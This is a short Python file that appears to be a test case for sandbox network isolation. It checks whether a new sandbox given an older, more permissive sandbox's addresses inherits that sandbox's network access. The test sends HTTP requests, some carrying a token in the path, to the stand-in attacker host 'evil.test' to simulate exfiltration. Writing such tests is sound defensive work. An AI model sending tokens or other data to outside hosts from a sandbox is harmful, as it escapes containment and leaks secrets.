# SPDX-License-Identifier: Apache-2.0
"""A new sandbox in the place of an old one inherits nothing."""
from bypass import get

TITLE = "a new sandbox with the addresses of one that could more"
THREAT = "59"


def first(c):
    c.send("evil.test", 80, get("evil.test", "/"))


def attack(c):
    with c.step("the address that the old one was given") as token:
        c.send_address(c.e, 80, get("evil.test", f"/{token}"))
    with c.step("the name") as token:
        c.send("evil.test", 80, get("evil.test", f"/{token}"))


def outside(box):
    box.run("first", allow=["ok.test", "evil.test"])
    box.run()
